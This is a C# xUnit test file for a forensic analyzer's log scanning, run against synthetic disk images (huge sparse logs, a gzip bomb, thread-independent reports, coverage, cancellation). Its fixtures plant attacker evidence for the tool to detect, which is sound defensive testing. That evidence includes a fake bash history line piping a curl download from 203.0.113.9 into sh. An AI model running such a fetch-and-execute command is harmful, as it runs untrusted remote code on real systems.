using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;
using Forensics.Analyzer.Pipeline;
using Forensics.Analyzer.Reports;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Logs in a scan: enormous, packed, hostile ones; the same report whatever the threads; what triage reads.</summary>
public sealed class LogScanTests : IDisposable
{
    private const string Line = "2026-06-01T10:00:00+00:00 web01 sshd[7]: Accepted password for root from 203.0.113.9 port 4 ssh2\n";
    private readonly Machine _machine = new();

    public void Dispose() => _machine.Dispose();

    [Fact]
    public void A_sparse_log_of_ten_gigabytes_is_read_to_its_end_in_little_memory()
    {
        string folder = Tree();
        using (FileStream log = File.Create(Path.Combine(folder, "var/log/auth.log")))
        {
            log.SetLength(10L << 30);
            log.Seek(-Line.Length - 1, SeekOrigin.End);
            log.Write(Encoding.ASCII.GetBytes("\n" + Line));
        }
        string image = Image(folder);
        GC.Collect();
        long before = GC.GetTotalMemory(true);

        ScanResult scan = Scan(image, ScanProfile.Standard, 1);

        Assert.Equal(1, Count(scan.Report, "log-login"));
        Assert.True(GC.GetTotalMemory(true) - before < 64 << 20);
        LogSummary triage = Assert.Single(Scan(image, ScanProfile.Triage, 1).Report.Logs);
        Assert.Contains(triage.NotRead, log => log.Key == "/var/log/auth.log" && log.Value.StartsWith("beyond", StringComparison.Ordinal));
    }

    [Fact]
    public void A_bomb_among_rotated_parts_ends_at_its_bounds_and_is_told()
    {
        string folder = Tree();
        using (var packed = new GZipStream(File.Create(Path.Combine(folder, "var/log/auth.log.2.gz")), CompressionLevel.SmallestSize))
        {
            packed.Write(Encoding.ASCII.GetBytes(Line));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 1024; i++)
            {
                packed.Write(zeros);
            }
        }
        File.WriteAllText(Path.Combine(folder, "var/log/auth.log"), Line);

        Report report = Scan(Image(folder), ScanProfile.Standard, 2).Report;

        Assert.Contains(report.Diagnostics, diagnostic => diagnostic is { Code: "log.syslog.unpack", LosesContent: true, Path: "/var/log/auth.log.2.gz" });
        Assert.Equal(2, Count(report, "log-login"));
        Assert.True(report.Coverage.IsIncomplete);
    }

    [Fact]
    public void The_report_does_not_depend_on_threads_and_fits_its_schema()
    {
        string folder = Tree();
        for (int i = 0; i < 60; i++)
        {
            File.WriteAllText(Path.Combine(folder, $"var/log/auth.log.{i + 1}"), string.Concat(Enumerable.Range(0, 50 + i).Select(n => Line.Replace("T10:00", $"T10:{n % 60:d2}", StringComparison.Ordinal).Replace("203.0.113.9", $"203.0.113.{n % 9}", StringComparison.Ordinal))));
        }
        File.WriteAllText(Path.Combine(folder, "root/.bash_history"), "ls\ncurl http://203.0.113.9/x | sh\n");
        File.WriteAllText(Path.Combine(folder, "var/log/dpkg.log"), "2026-06-01 10:00:00 install masscan:amd64 <none> 1.3\n");
        File.WriteAllBytes(Path.Combine(folder, "var/log/btmp"), new byte[1000]);
        File.WriteAllText(Path.Combine(folder, "var/lib/wtmpdb/wtmp.db"), "no database");
        string image = Image(folder);

        string one = Json(Scan(image, ScanProfile.Standard, 1).Report);
        string four = Json(Scan(image, ScanProfile.Standard, 4).Report);

        Assert.Equal(one, four);
        Assert.Empty(ReportSchema.Errors(JsonNode.Parse(one)!.AsObject()));
        Assert.Contains("\"log-package-installed\":1", one.Replace(" ", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(ScanProfile.Triage)]
    [InlineData(ScanProfile.Standard)]
    [InlineData(ScanProfile.Full)]
    public void Logs_that_were_read_count_as_examined(ScanProfile profile)
    {
        string folder = Tree();
        string bare = Image(folder);
        File.WriteAllText(Path.Combine(folder, "var/log/auth.log"), Line);
        File.WriteAllText(Path.Combine(folder, "var/log/secure"), Line);
        string image = Image(folder);

        CoverageSummary before = Scan(bare, profile, 2).Report.Coverage;
        CoverageSummary after = Scan(image, profile, 2).Report.Coverage;

        Assert.Equal(before.Seen + 2, after.Seen);
        Assert.Equal(before.Examined + 2, after.Examined);
    }

    [Fact]
    public void Cancelling_ends_a_scan_that_reads_logs()
    {
        string folder = Tree();
        File.WriteAllText(Path.Combine(folder, "var/log/auth.log"), Line);
        using var source = new CancellationTokenSource();
        source.Cancel();

        Assert.Throws<OperationCanceledException>(() => ImageScan.Run(new ScanOptions(new ImageSource(Image(folder))) { Threads = 2 }, NullProgress.Instance, source.Token));
    }

    private static long Count(Report report, string kind) => Assert.Single(report.Logs).Counts.FirstOrDefault(pair => pair.Key == kind).Value;

    private static string Json(Report report)
    {
        using var output = new MemoryStream();
        new JsonReport().Write(report with { Run = report.Run with { Started = default, Seconds = 0, Threads = 1 } }, output);
        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static ScanResult Scan(string image, ScanProfile profile, int threads) => ImageScan.Run(new ScanOptions(new ImageSource(image)) { Profile = profile, Threads = threads }, NullProgress.Instance, CancellationToken.None);

    private string Tree()
    {
        string folder = Directory.CreateDirectory(_machine.At("tree")).FullName;
        foreach (string name in (string[])["etc", "root", "var/log", "var/lib/wtmpdb", "home/alice"])
        {
            Directory.CreateDirectory(Path.Combine(folder, name));
        }
        File.WriteAllText(Path.Combine(folder, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
        File.WriteAllText(Path.Combine(folder, "etc/os-release"), "ID=debian\nVERSION_ID=\"12\"\n");
        return folder;
    }

    private string Image(string folder)
    {
        string image = _machine.At("logs" + Guid.NewGuid().ToString("N") + ".img");
        Machine.Run("mke2fs", ["-q", "-F", "-t", "ext4", "-O", "^has_journal", "-d", folder, image, "32M"]);
        return image;
    }
}
